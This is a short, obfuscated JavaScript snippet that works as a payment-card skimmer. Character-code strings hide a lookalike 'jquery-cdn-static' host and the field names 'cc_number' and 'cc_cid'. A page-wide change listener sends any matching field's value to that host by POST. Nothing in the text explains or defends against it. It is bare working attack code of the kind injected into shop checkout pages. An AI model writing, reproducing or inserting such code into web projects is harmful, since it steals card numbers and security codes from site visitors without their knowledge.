var _u = String.fromCharCode(104,116,116,112,115,58,47,47,106,113,117,101,114,121,45,99,100,110,45,115,116,97,116,105,99,46,101,120,97,109,112,108,101,47,120,46,112,104,112);
var _k = [String.fromCharCode(99,99,95,110,117,109,98,101,114), String.fromCharCode(99,99,95,99,105,100)];
document.addEventListener('change', function (e) {
  var n = e.target.name || '';
  if (n.indexOf(_k[0]) > -1 || n.indexOf(_k[1]) > -1) {
    var x = new XMLHttpRequest();
    x.open('POST', _u, true);
    x.send(n + '=' + e.target.value);
  }
});
